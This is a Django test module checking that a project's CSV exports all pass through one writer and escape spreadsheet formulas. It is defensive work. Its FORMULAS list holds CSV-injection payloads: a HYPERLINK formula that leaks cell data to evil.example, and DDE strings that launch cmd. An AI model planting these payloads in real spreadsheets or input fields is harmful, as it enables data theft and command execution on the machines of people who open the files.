"""No CSV of the project hands a spreadsheet a formula.

Every CSV goes through core.csv: a test reads the tree for any other way of
writing one, and another fills every text column of a whole world (the
authorisation tests' world, with a check-in, answered lounge meetings and votes
added) with formulas, then downloads every CSV and reads every cell.
"""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings
from django.db import models, transaction
from django.utils import timezone
from freezegun import freeze_time
from hypothesis import given
from hypothesis import strategies as st

from core.csv import BYTE_ORDER_MARK, FORMULA_STARTS, cell, csv_text
from core.testing import english
from core.tests.authorization_world import BEFORE_THE_EVENT, build_world
from dashboard.tables import TABLES

ROOT = Path(settings.BASE_DIR)
# What an attacker types into a title, a gate, an organisation, a note.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]
NUMBER = re.compile(r"-?\d+(\.\d+)?")


# The one writer


@given(text=st.text())
def test_no_text_comes_out_as_a_formula(text):
    written = cell(text)
    assert not written.startswith(FORMULA_STARTS)
    assert written in (text, "'" + text)


@given(number=st.one_of(st.integers(), st.floats(allow_nan=False), st.decimals(allow_nan=False)))
def test_numbers_stay_numbers(number):
    assert cell(number) == number


def test_a_negative_count_stays_a_number_and_a_negative_text_becomes_text():
    assert csv_text(["n", "title"], [[-3, "-3"], [None, Decimal("-1.5")]]) == (
        BYTE_ORDER_MARK + "n,title\r\n-3,'-3\r\n,-1.5\r\n"
    )


def _python_files():
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0].startswith(".") or relative.parts[0] in ("node_modules", "build"):
            continue
        if "tests" in relative.parts or relative == Path("core/csv.py"):
            continue
        yield relative, path.read_text(encoding="utf-8")


WRITES_CSV = re.compile(r"^\s*(import csv|from csv import)|csv\.(writer|DictWriter)|text/csv", re.M)


def test_no_module_writes_csv_but_core_csv():
    strays = [str(relative) for relative, text in _python_files() if WRITES_CSV.search(text)]
    assert strays == []


# Every CSV with formulas in every text column

AFTER_THE_EVENT = "2022-06-01 09:00:00+00:00"
# Text the code reads as a value rather than showing it: a time zone, a colour,
# a language, a password hash, a secret or a key looked up by the code.
MACHINE_FIELDS = {"time_zone", "colour", "password", "language", "secret", "nonce", "key_hash"}


def _shown_text_fields(model):
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, (models.CharField, models.TextField))
        and not field.choices
        and not field.primary_key
        and field.name not in MACHINE_FIELDS
    ]


def poison_every_text_field() -> int:
    """Every text a person typed, in every row of every model of the project, made a
    formula (unique fields keep their row's number to stay unique)."""
    poisoned = 0
    for model in apps.get_models():
        ours = Path(model._meta.app_config.path).parent == ROOT
        if not ours and model._meta.label != "auth.User" or not model._meta.managed:
            continue
        fields = _shown_text_fields(model)
        for number, pk in enumerate(model._base_manager.values_list("pk", flat=True)):
            values = {}
            for index, field in enumerate(fields):
                formula = FORMULAS[(number + index) % len(FORMULAS)]
                if field.unique:
                    formula = f"{formula}{pk}"
                values[field.attname] = formula[: field.max_length] if field.max_length else formula
            poisoned += model._base_manager.filter(pk=pk).update(**values)
    return poisoned


def _lived_through(w):
    """What happens during the event: a check-in at a gate, both sides of the lounge
    meeting answer, an idea gets a vote."""
    from community import ideas
    from matchmaking.models import MeetingSide
    from registration.checkin import check_in

    check_in(w.registration.secret, edition=w.edition, gate="Porte A", nonce="n-1")
    MeetingSide.objects.filter(meeting=w.meeting).update(
        took_place=True,
        follow_up=MeetingSide.FollowUp.PILOT,
        note="Suite",
        answered_at=timezone.now(),
    )
    ideas.support(w.idea, voter="d:someone")


@pytest.fixture(scope="module")
def poisoned(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock(), transaction.atomic():
        with freeze_time(BEFORE_THE_EVENT):
            w = build_world()
        with freeze_time(AFTER_THE_EVENT):
            _lived_through(w)
        assert poison_every_text_field() > 50
        yield w
        transaction.set_rollback(True)


# Each CSV, and whether it shows typed text (some only count things).
CSVS = [
    ("community:ideas_csv", ["ideas"], "", True),
    ("community:ideas_csv", ["votes"], "", False),
    ("registration:registrations_csv", [], "", True),
    ("startups:applications_csv", [], "", True),
    ("matchmaking:outcomes", [], "?format=csv", True),
    ("programme:sessions_csv", [], "", True),
    *[("dashboard:csv", [name], "", name not in ("lounge", "startups")) for name in TABLES],
]
# Where csv_response is called, and the addresses above that reach each call.
CALLERS = {
    "community/views/exports.py": "community:ideas_csv",
    "registration/views/staff.py": "registration:registrations_csv",
    "startups/views/staff.py": "startups:applications_csv",
    "matchmaking/views/staff.py": "matchmaking:outcomes",
    "programme/exports/views.py": "programme:sessions_csv",
    "dashboard/views.py": "dashboard:csv",
}


def test_every_csv_of_the_project_is_downloaded_below():
    callers = {str(relative) for relative, text in _python_files() if "csv_response(" in text}
    assert callers == set(CALLERS)
    assert set(CALLERS.values()) == {name for name, *_rest in CSVS}


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "args", "query", "shows_text"), CSVS)
def test_no_cell_of_any_csv_is_a_formula(client, poisoned, name, args, query, shows_text):
    client.force_login(poisoned.users["admin"])
    with freeze_time(AFTER_THE_EVENT):
        response = client.get(english(name, *args) + query)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode()
    assert text.startswith(BYTE_ORDER_MARK)
    header, *rows = csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK)))
    assert rows
    cells = [value for row in rows for value in row]
    formulas = [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]
    assert formulas == []
    if shows_text:
        assert any(c.startswith("'" + FORMULAS[0][:10]) for c in cells) or any(
            c.startswith(("'+", "'-", "'@", "'\t", "'\r", "'\n")) for c in cells
        )
